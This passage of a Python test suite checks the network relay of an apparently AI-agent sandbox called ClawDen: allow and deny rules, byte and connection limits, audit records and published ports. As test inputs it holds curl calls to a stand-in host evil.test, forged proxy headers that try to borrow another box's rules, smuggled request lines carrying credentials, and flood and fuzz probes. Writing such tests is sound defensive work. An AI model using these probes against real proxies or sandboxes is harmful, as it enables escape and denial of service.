        r = w.exec(flag, "--", "echo", "RAN")
        need(r.returncode == 2 and "RAN" not in r.stdout and r.stderr.strip(), f"{flag}: {r.returncode} {r.stdout} {r.stderr}")
    w.box()
    results = w.probe([connect("example.test:443"), connect(EXAMPLE + ":443"), {"op": "dns", "name": "example.test"}], box="box")
    same(([status(r) for r in results[:2]], results[2]["rcode"]), ([403, 403], 5))
    same((w.dialled(), w.asked()), ([], []))
    w.network("box", "--allow", "example.test")
    same([status(r) for r in w.probe([connect("example.test:443")], box="box")], [200], "the control")


# ---- live boxes ----

@test("a command that is let out by its name reaches what egress.allow names; a change of the settings holds with the next call")
def _(w):
    def settings(allow, **more):
        os.makedirs(os.path.join(w.env["HOME"], ".openclaw"), exist_ok=True)
        with open(os.path.join(w.env["HOME"], ".openclaw/openclaw.json"), "w") as f:
            json.dump({"agents": {"defaults": {"sandbox": {"networkExecAllow": ["curl"], "networkDocker": {"network": "allowlist"},
                                                           "egress": {"allow": allow, **more}}}}}, f)

    def fetch(url, before=""):
        return w.call("clawden", "sandbox", "exec", "--session", "agent:main:work", "--command", f"{before}curl -sS -m 5 {url}")
    settings(["example.test"])
    need("I am" in fetch("http://example.test/").stdout, fetch("http://example.test/"))
    r = fetch("http://evil.test/")
    need("ClawDen denied evil.test:80" in r.stdout and "setting: agents.defaults.sandbox.egress.allow" in r.stdout, r.stdout + r.stderr)
    r = fetch("http://example.test/", "cd /tmp; ")  # not one simple command: the isolated box
    need(r.returncode and "I am" not in r.stdout, r)
    settings(["evil.test"], deny=["example.test"])
    need("ClawDen denied example.test:80" in fetch("http://example.test/").stdout and "I am" in fetch("http://evil.test/").stdout, "the old rules")
    names = [json.loads(line)["Names"] for line in w.docker("ps", "--format", "{{json .}}").stdout.splitlines()]
    net = [n for n in names if n.endswith("-net")][0]
    w.network(net, "--allow", "v4.test")  # by hand: until the settings change
    need("I am" in fetch("http://v4.test/").stdout and "I am" in fetch("http://v4.test/").stdout, "what was allowed by hand did not stay")
    settings(["example.test"])
    need("ClawDen denied v4.test" in fetch("http://v4.test/").stdout, "it stayed for good")


@test("budgets and rates of the settings are kept: bytes of a box, of a host, per second, connections at once")
def _(w):
    def settings(**egress):
        os.makedirs(os.path.join(w.env["HOME"], ".openclaw"), exist_ok=True)
        with open(os.path.join(w.env["HOME"], ".openclaw/openclaw.json"), "w") as f:
            json.dump({"agents": {"defaults": {"sandbox": {"egress": egress}}}}, f)

    def get_bytes(name, n):
        r = w.docker("exec", name, "curl", "-sS", "-m", "8", "-o", "/dev/null", "-w", "%{size_download} %{time_total}", f"http://example.test/bytes?n={n}")
        return [float(x) for x in r.stdout.split()[-2:]]
    settings(bytes="1m")
    w.box("few", "bridge")
    same(get_bytes("few", 100000)[0], 100000.0, "the control")
    need(get_bytes("few", 3000000)[0] < 1100000, "more than the budget came")
    need(get_bytes("few", 1000)[0] < 1000, "the budget is used up, and yet")
    need(any("budget" in a.get("reason", "") for a in w.audit()), "the audit does not say so")
    settings(bytesPerSecond="400k")
    w.box("slow", "bridge")
    took = get_bytes("slow", 1200000)
    need(took[0] == 1200000 and took[1] > 1.5, took)


@test("a rule that is taken away closes what it had let through, and touches nothing else")
def _(w):
    w.box(allow=["example.test:7000", "other.test:7000"])
    p = w.start("box", "/usr/bin/python3", "probe.py", "stay", "example.test:7000", "other.test:7000")
    lines = [json.loads(p.stdout.readline()) for _ in range(2)]
    same(sorted((x["target"], x["state"]) for x in lines), [("example.test:7000", "up"), ("other.test:7000", "up")])
    w.network("box", "--allow", "v4.test")
    begun = time.monotonic()
    w.network("box", "--remove", "example.test:7000")
    line = json.loads(p.stdout.readline())
    same((line["target"], line["state"]), ("example.test:7000", "down"))
    need(line["at"] - begun < 1.5, "it was closed late")
    same([status(r) for r in w.probe([connect("example.test:7000"), connect("other.test:7000"), connect("v4.test:443")], box="box")],
         [403, 200, 200])
    shown = w.shown("box")
    same((shown["box"], shown["network"], shown["relay"], shown["allow"], shown["deny"], shown["hostPorts"]),
         ("box", "allowlist", True, ["other.test:7000", "v4.test"], [], []))
    need(shown["counters"]["allowed"] >= 4 and shown["counters"]["denied"] >= 1 and shown["counters"]["udpRefused"] == 0, shown)
    w.network("box", "--deny", "v4.test")
    same([status(r) for r in w.probe([connect("v4.test:443"), connect("other.test:7000")], box="box")], [403, 200])
    ended = {e["address"] for e in w.seen("end", port=7000)}
    need("93.184.216.35" not in {e["address"] for e in w.seen("end", port=7000) if len(e["raw"]) > 3}, "the other connection was closed")
    need(EXAMPLE in ended, "upstream is still connected")
    p.stdin.close()
    same(p.wait(10), 0)
    p.stdout.close()


@test("what a command asks for is told with the command")
def _(w):
    w.box(allow=["example.test"])
    for target in ("example.test:443", "evil.test:443"):
        w.probe([connect(target)], box="box")
    begun = [a["call"] for a in w.audit() if a["event"] == "exec.begin"]
    same(len(begun), 2)
    same((w.told("egress.allow", "example.test:443").get("call"), w.told("egress.deny", "evil.test:443").get("call")), tuple(begun))


@test("--check asks the rules and nobody else")
def _(w):
    w.box(allow=["example.test"])
    def check(target):
        r = w.call("clawden", "sandbox", "network", "box", "--check", target)
        return r.returncode, r.stdout + r.stderr
    good, bad = check("example.test:443"), check("evil.test:443")
    need(good[0] == 0 and "example.test" in good[1], good)
    need(bad[0] != 0 or "den" in bad[1].lower(), bad)
    need(good != bad and "evil.test" in bad[1], bad)
    same((w.asked(), w.dialled()), ([], []))
    need(w.call("clawden", "sandbox", "network", "box", "--check", "0x7f.1:80").returncode != 0, "what is no host")
    need(w.call("clawden", "sandbox", "network", "none-such", "--json").returncode != 0, "a box that is not there")


@test("no connection begins to a host after its rule was taken away; a bad rule changes nothing (EG-28)")
def _(w):
    w.box(allow=["example.test:7000", "other.test:7000"])
    p = w.start("box", "/usr/bin/python3", "probe.py", "flood", "example.test:7000", "4")
    q = w.start("box", "/usr/bin/python3", "probe.py", "flood", "other.test:7000", "4")
    for x in (p, q):
        x.stdout.readline()
    spans = []
    for _ in range(4):
        time.sleep(0.2)
        w.network("box", "--remove", "example.test:7000")
        off = time.monotonic()
        r = w.call("clawden", "sandbox", "network", "box", "--allow", "http://bad rule")
        need(r.returncode != 0 and r.stderr, "a bad rule is taken")
        w.network("box", "--allow", "v4.test")
        w.network("box", "--remove", "v4.test")
        time.sleep(0.15)
        spans.append((off, time.monotonic()))
        w.network("box", "--allow", "example.test:7000")
    done, other = json.loads(p.stdout.read()), json.loads(q.stdout.read())
    for x in (p, q):
        x.wait(10)
        x.stdout.close()
        x.stdin.close()
    inside = [(at, s) for at, s in done if any(a <= at < b for a, b in spans)]
    need(len(inside) > 20 and {s for _, s in inside} <= {"403"}, f"{len(inside)} were begun in between: { {s for _, s in inside} }")
    need(sum(s == "200" for _, s in done) > 20, "it was never allowed")
    same({s for _, s in other}, {"200"}, "the other host")


@test("a rule that goes while a name is being looked up takes the connection with it")
def _(w):
    w.box(allow=["slow.test:7000", "example.test"])
    p = w.start("box", "/usr/bin/python3", "probe.py", "stay", "slow.test:7000")
    need(wait_for(lambda: "slow.test" in w.asked()), "it was not looked up")
    w.network("box", "--remove", "slow.test:7000")
    line = json.loads(p.stdout.readline())
    same(line["state"] in ("down", "403", ""), True, line)
    time.sleep(1.2)
    same(w.dialled(), [])
    p.stdin.close()
    p.wait(10)
    p.stdout.close()
    w.network("box", "--allow", "slow.test:7000")
    same([status(r) for r in w.probe([connect("slow.test:7000")], box="box")], [200], "the control")


@test("a relay that is killed is there again for the next command, with the same rules")
def _(w):
    w.box(allow=["example.test"])
    w.box("open", "bridge")
    same([status(r) for r in w.probe([connect("example.test:443"), connect("evil.test:443")], box="box")], [200, 403])
    old = relay_of(w)
    os.kill(old, signal.SIGKILL)
    need(wait_for(lambda: not is_there(old)), "it lives on")
    same([status(r) for r in w.probe([connect("example.test:443"), connect("evil.test:443")], box="box")], [200, 403])
    same([status(r) for r in w.probe([connect("evil.test:443"), connect("private.test:80")], box="open")], [200, 403])
    need(relay_of(w) != old, "the same process")
    results = w.probe([curl("http://example.test/", env=NO_PROXY), {"op": "dns", "name": "example.test"}], box="box")
    need("I am" in results[0]["out"] and results[1]["rcode"] == 0, results)


@test("a box's end closes its connections upstream and frees every descriptor of the relay")
def _(w):
    w.box("first", allow=["example.test:7000"])
    same([status(r) for r in w.probe([connect("example.test:7000")], box="first")], [200])
    relay = relay_of(w)
    need(wait_for(lambda: not w.seen("end", port=7000) == []), "the control's connection stays")
    before = min(files_of(relay) for _ in [time.sleep(0.1) for _ in range(5)])  # a line may just be written down
    for turn in range(3):
        w.mark = os.path.getsize(w.log)
        w.box("second", "bridge", flags=("-p", "127.0.0.1::8000") if turn == 2 else ())
        p = w.start("second", "/usr/bin/python3", "probe.py", "stay", "example.test:7000", "v4.test:7000", "evil.test:7000")
        lines = [json.loads(p.stdout.readline()) for _ in range(3)]
        same({x["state"] for x in lines}, {"up"})
        need(files_of(relay) > before + 6, "the count does not show connections")
        same(w.docker("rm", "-f", "second").returncode, 0)
        need(wait_for(lambda: len(w.seen("end", port=7000)) == 3, 10), "upstream is still connected")
        p.stdin.close()
        p.wait(10)
        p.stdout.close()
        need(wait_for(lambda: files_of(relay) == before, 3), f"{files_of(relay)} descriptors, {before} before (turn {turn})")
    r = w.exec("--allow-network=example.test", "--", "curl", "-s", "-m", "5", "http://example.test/")
    need("I am" in r.stdout, r)
    need(wait_for(lambda: files_of(relay) == before, 3), f"{files_of(relay)} descriptors after a box of one command, {before} before")
    same(relays(), [relay])


# ---- the relay ----

@test("one relay serves all boxes of a person, confined, and goes when nobody needs it")
def _(w):
    w.env["CLAWDEN_EGRESS_IDLE"] = "1"
    need("I am" in w.exec("--allow-network=example.test", "--", "curl", "-s", "-m", "5", "http://example.test/").stdout, "no way out")
    w.box("one", "bridge")
    w.box("two", allow=["example.test"])
    relay = relay_of(w)
    told = status_of(relay)
    same((told["NoNewPrivs"], told["Seccomp"]), ("1", "2"))
    same(int(told["CapEff"], 16), 0, "capabilities")
    same(told["Uid"].split()[0], str(os.getuid()))
    time.sleep(1.5)
    same(relays(), [relay], "it left its boxes")
    same([status(r) for b in ("one", "two") for r in w.probe([connect("example.test:443")], box=b)], [200, 200])
    same(relays(), [relay])
    w.docker("rm", "-f", "one", "two")
    need(wait_for(lambda: not relays(), 6), "it stays")


@test("many boxes at once make one relay")
def _(w):
    with ThreadPoolExecutor(8) as pool:
        results = list(pool.map(lambda _: w.exec("--allow-network=example.test", "--", "curl", "-s", "-m", "8", "http://example.test/"),
                                range(8)))
    for r in results:
        need(r.returncode == 0 and "I am" in r.stdout, f"{r.returncode} {r.stdout} {r.stderr}")
    same(len(relays()), 1)


@test("the audit's chain holds when the relay and many commands write at once")
def _(w):
    def one(i):
        return w.exec("--allow-network=example.test", "--", "/usr/bin/python3", "probe.py", "probe",
                      input=json.dumps({"probes": [connect("example.test:80"), connect("evil.test:80")] * 20}))
    with ThreadPoolExecutor(6) as pool:
        for r in pool.map(one, range(6)):
            same(r.returncode, 0, r.stderr)

    def told():
        return [len([a for a in w.audit() if a["event"] == f"egress.{x}"]) for x in ("allow", "end", "deny")]
    need(wait_for(lambda: told() == [120, 120, 120], 5), told())
    r = w.call("clawden", "audit", "verify")
    same(r.returncode, 0, r.stdout + r.stderr)


@test("who a box is, it cannot say: another's rules are not to be had (EG-32)")
def _(w):
    w.box("rich", allow=["example.test"])
    w.box("poor", allow=["other.test"])
    ids = [w.docker("inspect", "-f", "{{.Id}}", n).stdout.strip() for n in ("rich", "poor")]
    tokens = [base64.b64encode(x.encode()).decode() for x in (f"rich:{ids[0]}", f"{ids[0]}:")]
    extra = [f"Proxy-Authorization: Basic {t}\r\n" for t in tokens]
    extra += [f"Proxy-Authorization: Bearer {ids[0]}\r\n", f"X-Box: {ids[0]}\r\n", f"X-ClawDen-Box: {ids[0]}\r\n", "Via: 1.1 rich\r\n",
              "X-Forwarded-For: 10.0.0.1\r\n"]
    results = w.probe([get("http://example.test/", extra=x) for x in extra] + [get("http://other.test/head", extra=extra[0])], box="poor")
    all_refused(extra, results[:-1], 403)
    works(results[-1])
    need("proxy-authorization" not in results[-1]["got"].lower(), "what was meant for the proxy went upstream")
    same([status(r) for r in w.probe([connect("example.test:443"), connect("other.test:443")], box="rich")], [200, 403])
    same(w.told("egress.deny", "example.test:80")["box"] in (ids[1], "poor"), True, "the audit names another box")
    # sockets of the host that a box could know of: the relay's own
    run = w.env["CLAWDEN_RUNTIME_DIR"]
    r = w.docker("exec", "poor", "sh", "-c", f"ls {run} /run/clawden* /tmp/clawden* 2>/dev/null; cat /proc/net/unix | wc -l")
    same(r.stdout.split(), ["1"], "sockets that a box can see")


@test("a box of another network of the host's does not get out by this one's relay")
def _(w):
    w.box(allow=["example.test"])
    first = relay_of(w)
    words = [os.path.join(w.bin, "clawden-sandbox"), "exec", "--allow-network", "--", "curl", "-sS", "-m", "4", f"http://{EXAMPLE}/"]
    apart = ["unshare", "--net"] if os.getuid() == 0 else ["unshare", "--user", "--map-current-user", "--net"]
    r = subprocess.run([*apart, *words], env=w.env, cwd=w.ws, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=60)
    need("I am" not in r.stdout and EXAMPLE in r.stdout, f"{r.stdout} {r.stderr}")
    same(w.dialled(), [])
    r = w.exec(*words[2:])
    need("I am" in r.stdout, f"the control: {r.stdout} {r.stderr}")
    need(first in relays(), "the first one is gone")


@test("what is no protocol at all ends neither the relay nor another's connection")
def _(w):
    w.box("bad", "bridge")
    w.box("good", allow=["example.test:7000"])
    p = w.start("good", "/usr/bin/python3", "probe.py", "stay", "example.test:7000")
    same(json.loads(p.stdout.readline())["state"], "up")
    relay, rnd = relay_of(w), random.Random(7)

    def junk(n):
        return bytes(rnd.randrange(256) for _ in range(n)).decode("latin1")
    starts = ["", "\x05", "\x05\x01\x00", "\x05\x01\x00\x05\x01\x00\x03", "\x04", "\x16\x03\x01\x02\x00\x01", "GET ", "CONNECT ", "\0\x20",
              "\xff\xff"]
    where = [PROXY, ["example.test", 443], ["example.test", 80], ["127.0.0.1", 53], ["127.0.0.1", 3129]]
    probes = [talk(rnd.choice(starts) + junk(rnd.choice((1, 7, 60, 500, 3000))), {"shut": 1}, to=rnd.choice(where)) for _ in range(120)]
    probes += [{"op": "udp", "to": ["127.0.0.1", 53], "send": junk(n), "timeout": 0.05} for n in (0, 1, 11, 12, 13, 17, 40, 200, 512) * 6]
    w.probe(probes, box="bad", parallel=24)
    time.sleep(0.3)
    same(relays(), [relay], "the relay")
    same([status(r) for r in w.probe([connect("example.test:7000")], box="good")], [200])
    p.stdin.close()
    same(p.stdout.read(), "", "the other's connection")
    p.wait(10)
    p.stdout.close()


@test("nothing of the relay listens on the host (EG-36)")
def _(w):
    def listening():
        found = set()
        for name in ("tcp", "tcp6", "udp", "udp6"):
            if os.path.exists(f"/proc/net/{name}"):
                with open(f"/proc/net/{name}") as f:
                    rows = [line.split() for line in f.readlines()[1:]]
                found |= {(name, x[1]) for x in rows if x[3] == ("0A" if "tcp" in name else "07")}
        return found
    before = listening()
    w.box(allow=["example.test"])
    same([status(r) for r in w.probe([connect("example.test:443")], box="box")], [200])
    relay_of(w)
    same(listening(), before)
    need(before, "the count shows nothing")


@test("the audit has host, port, verdict and bytes, and no secret of a request (EG-37)")
def _(w):
    secret = "s3cr3t-7f3a"
    where = f"example.test/{secret}?k={secret}"
    malformed = [f"GET http://user:{secret}@example.test/", f"get http://{where}", f"TRACE http://{where}", f"GET https://{where}",
                 f"GET /{secret}?k={secret}", f"CONNECT {where}", f"CONNECT user:{secret}@example.test:443",
                 f"GET http://example.test:x/{secret}",
                 f"GET http://exa mple.test/{secret}", f"GET http://{where}#{secret}", f"GET  http://{where}", f"GET ftp://{where}",
                 f"GET http://example.test\\@{where}", f"GET http://example.test:443/{secret}", f"GET http://evil.test./?{secret}"]
    results = w.probe([get(f"http://example.test/{secret}?k={secret}",
                           extra=f"Authorization: Bearer {secret}\r\nCookie: {secret}\r\nProxy-Authorization: Basic {secret}\r\n"),
                       get(f"http://evil.test/{secret}?k={secret}", extra=f"Authorization: Bearer {secret}\r\n"),
                       *[talk(f"{x} HTTP/1.1\r\nHost: example.test\r\n\r\n") for x in malformed],
                       curl(f"https://example.test/{secret}", "-H", f"Authorization: {secret}")], "--allow-network=example.test")
    works(results[0])
    w.told("egress.allow", "example.test:80")
    w.told("egress.deny", "evil.test:80")
    w.told("egress.end", "example.test:443")
    found = subprocess.run(["grep", "-r", secret, w.data, w.env["CLAWDEN_RUNTIME_DIR"]], stdout=subprocess.PIPE, text=True).stdout
    same(found, "")


@test("idle connections, long heads, slow heads and resets cost the relay little and others nothing (EG-31)")
def _(w):
    w.box("bad", "bridge")
    w.box("good", allow=["example.test"])
    relay = relay_of(w)
    same([status(r) for r in w.probe([connect("example.test:443")], box="good")], [200])
    base = files_of(relay)
    slow = w.start("bad", "/usr/bin/python3", "probe.py", "probe")
    halves = [talk(x, timeout=16) for x in ("", "GET http://exam", "\x05")] + [talk("\x16", to=["example.test", 443], timeout=16)]
    slow.stdin.write(json.dumps({"parallel": 4, "probes": halves}))
    slow.stdin.close()
    hosts = ("example.test:7000", "other.test:7000", "v4.test:7000", "evil.test:7000")
    sends = [f"CONNECT {n} HTTP/1.1\r\nHost: {n}\r\n\r\n" for n in hosts]
    idle = w.start("bad", "/usr/bin/python3", "probe.py", "probe")
    hold = {"op": "hold", "to": PROXY, "n": 600, "sends": sends, "pause": 0.0075, "seconds": 6, "tell": True}
    idle.stdin.write(json.dumps({"probes": [hold]}))
    idle.stdin.close()
    statuses = json.loads(idle.stdout.readline())
    need(statuses.count("200") >= 500, {s: statuses.count(s) for s in set(statuses)})
    r, = w.probe([curl("https://example.test/")], box="good")
    need("I am" in r["out"] and idle.poll() is None, f"another box waits: {r}")
    resets = [talk("CONNECT example.test:7000 HTTP/1.1\r\n", {"reset": 1}, {"done": 1})] * 50
    long = [get("http://example.test/", extra=x) for x in ("X: " + "a" * (1 << 20) + "\r\n", "X: y\r\n" * 20000)]
    results = w.probe(long + resets, box="good")
    for r in results[:2]:
        need(status(r) in (400, 413, 431, "eof", "ECONNRESET", "EPIPE"), r)
    rss = int(status_of(relay)["VmRSS"].split()[0])
    need(rss < 128 << 10, f"the relay has {rss} KiB")
    held, = json.loads(idle.stdout.read())
    need(held["still"] >= 500, f"only {held['still']} connections stood")
    ends = json.loads(slow.stdout.read())
    need(all(x["end"] in ("eof", "ECONNRESET") and x["seconds"] < 14 for x in ends),
         f"a half request is waited for: {[(x['end'], x['seconds']) for x in ends]}")
    for p in (idle, slow):
        p.wait(10)
        p.stdout.close()
    need(wait_for(lambda: files_of(relay) <= base + 2, 20), f"{files_of(relay)} descriptors, {base} before")


@test("one host gets so many connections of a box at once and no more")
def _(w):
    text = "CONNECT example.test:7000 HTTP/1.1\r\nHost: example.test:7000\r\n\r\n"
    hold = {"op": "hold", "to": PROXY, "n": 300, "sends": [text], "pause": 0.006}
    later = {"op": "talk", "to": PROXY, "steps": [{"pause": 3}, *connect("v4.test:443")["steps"]]}
    r, other = w.probe([hold, later], "--allow-network")
    need(r["statuses"].count("200") == 256, {s: r["statuses"].count(s) for s in set(r["statuses"])})
    same(status(other), 200, "another host")
    need("at once" in w.told("egress.deny", "example.test:7000")["reason"], "no reason")


# ---- published ports ----

def fetch(port):
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f"http://127.0.0.1:{port}/", timeout=10) as f:
        return f.read().decode()


@test("a published port is served from inside the box, to the host's loopback alone")
def _(w):
    with open(os.path.join(w.ws, "index.html"), "w") as f:
        f.write("hello from the box " + "x" * 5000)
    w.box(network="bridge", flags=("-p", "127.0.0.1::8000"))
    told = w.docker("port", "box").stdout
    m = re.fullmatch(r"8000/tcp -> 127\.0\.0\.1:(\d+)\n", told)
    need(m, told)
    port = int(m.group(1))
    same(w.docker("port", "box", "8000").stdout, f"127.0.0.1:{port}\n")
    need(str(port) in w.docker("inspect", "box").stdout, "inspect does not name it")
    try:
        fetch(port)
        need(False, "nobody serves yet")
    except OSError:
        pass
    same(w.docker("exec", "-d", "box", "/usr/bin/python3", "-m", "http.server", "8000", "--bind", "127.0.0.1").returncode, 0)

    def up():
        try:
            return "hello from the box" in fetch(port)
        except OSError:
            return False
    need(wait_for(up, 5), "it is not reached")
    for i in range(100):
        need("hello from the box" in fetch(port), i)
    with ThreadPoolExecutor(12) as pool:
        need(all("hello from the box" in x for x in pool.map(lambda _: fetch(port), range(48))), "at once")
    found = []
    for name in ("tcp", "tcp6"):
        with open(f"/proc/net/{name}") as f:
            found += [x[1] for x in (line.split() for line in f.readlines()[1:]) if x[3] == "0A" and int(x[1].split(":")[1], 16) == port]
    same(found, [f"0100007F:{port:04X}"])
    w.told("egress.end", via="published")
    # connections that end in every way give their place back
    for _ in range(40):
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.sendall(b"GET / HTTP/1.0\r\n")
        s.close()
    need(wait_for(up, 3), "after resets it is not reached any more")
    w.docker("rm", "-f", "box")

    def closed():
        with socket.socket() as s:
            return s.connect_ex(("127.0.0.1", port)) == errno.ECONNREFUSED
    need(wait_for(closed, 3), "the port outlives its box")


@test("a published port leads nowhere but to the box's own loopback")
def _(w):
    w.box(network="bridge", flags=("-p", "127.0.0.1::8000", "-p", "127.0.0.1::8001"))
    lines = w.docker("port", "box").stdout.split()
    same(len(lines), 6, lines)
    r = w.docker("create", "--name", "wide", "--network", "bridge", "-p", "0.0.0.0::8000", IMAGE, "sleep", "infinity")
    r = r if r.returncode else w.docker("start", "wide")
    if r.returncode == 0:
        need("127.0.0.1" in w.docker("port", "wide").stdout, "it listens at every address of the host")


# ---- the end ----

@test("a suite that is ended in the middle leaves nothing")
def _(w):
    if os.environ.get("EGRESS_NESTED"):
        raise Skip("this is the one")
    before, folder = set(descendants(os.getppid())), os.path.join(w.top, "tmp")
    os.mkdir(folder)
    p = subprocess.Popen([sys.executable, "-B", os.path.abspath(__file__), "--bin", ARGS.bin, "--only", "EG-31"], stdout=subprocess.PIPE,
                         text=True, env=dict(os.environ, TMPDIR=folder, EGRESS_NESTED="1"))
    need(p.stdout.readline().startswith("1..1"), "it did not begin")
    try:
        need(wait_for(lambda: len([n for n in descendants(p.pid).values() if "clawden" in n]) >= 3, 10), f"no boxes: {descendants(p.pid)}")
        time.sleep(0.3)
    finally:
        p.terminate()
    need(p.wait(30) != 0, "it ended well")
    p.stdout.close()
    need(wait_for(lambda: set(descendants(os.getppid())) <= before, 5),
         [n for x, n in descendants(os.getppid()).items() if x not in before])
    same(os.listdir(folder), [])


@test("after all this no process, mount or file is left, and no packet went where none may")
def _(w):
    same(STRAY, [], "packets")
    same(STUBBORN, [], "relays that did not end when they were told to")
    need(wait_for(lambda: not [n for n in descendants(os.getppid()).values() if "clawden" in n], 5), descendants(os.getppid()))
    names = descendants(os.getppid())
    same(len(names), 3, f"the suite, the internet and the host: {names}")
    with open("/proc/self/mountinfo") as f:
        same([line for line in f if ARGS.inside in line], [])
    left = [x for x in os.listdir(ARGS.inside) if x.startswith("w-") and os.path.join(ARGS.inside, x) != w.top]
    same(left, [])


def main():
    global ARGS
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--bin", default=os.path.join(HERE, "../../build/bin"))
    p.add_argument("--only", default="")
    p.add_argument("--label", default=default_label())
    p.add_argument("--full", action="store_true", help="10 000 requests where 300 are usual")
    p.add_argument("--inside", help=argparse.SUPPRESS)
    ARGS = p.parse_args()
    if not ARGS.inside:
        return world.keep(os.path.abspath(__file__), sys.argv[1:])

    def stop(*_):
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        raise SystemExit(143)
    signal.signal(signal.SIGTERM, stop)
    return run("EGRESS", World, ARGS.only, ARGS.label)


if __name__ == "__main__":
    sys.exit(main())
